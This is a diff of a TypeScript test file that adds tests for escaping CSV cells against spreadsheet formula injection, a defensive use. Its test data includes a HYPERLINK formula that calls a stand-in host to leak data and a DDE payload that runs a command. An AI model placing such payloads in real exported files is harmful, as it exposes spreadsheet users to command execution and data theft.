@@ -1,4 +1,4 @@
-import { amountCell, shopDateTimeCell, yesNoCell } from './csv-cells';
+import { amountCell, formulaSafeCell, formulaSafeCellText, shopDateTimeCell, yesNoCell } from './csv-cells';
 
 describe('CSV cells', () => {
   it.each([
@@ -19,5 +19,26 @@ describe('CSV cells', () => {
   it('writes no date as an empty cell and booleans as yes/no', () => {
     expect(shopDateTimeCell(null, 'Asia/Jerusalem')).toBe('');
     expect([yesNoCell(true), yesNoCell(false)]).toEqual(['yes', 'no']);
+  });
+
+  it.each([
+    ['=HYPERLINK("http://x.example/?leak","click me")', '\'=HYPERLINK("http://x.example/?leak","click me")'],
+    ['+SUM(1,2)', "'+SUM(1,2)"],
+    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
+    ['@SUM(1,1)', "'@SUM(1,1)"],
+    ['\tTAB', "'\tTAB"],
+    ['\rCR', "'\rCR"],
+    ["'quoted", "''quoted"],
+    ['-12.50', '-12.50'],
+    ['+972', '+972'],
+    ['שלום', 'שלום'],
+    ['', ''],
+  ])('%j is written %j and read back as it was', (text, cell) => {
+    expect(formulaSafeCell(text)).toBe(cell);
+    expect(formulaSafeCellText(cell)).toBe(text);
+  });
+
+  it('reads an apostrophe a person typed before ordinary text as part of it', () => {
+    expect(formulaSafeCellText("'abc")).toBe("'abc");
   });
 });
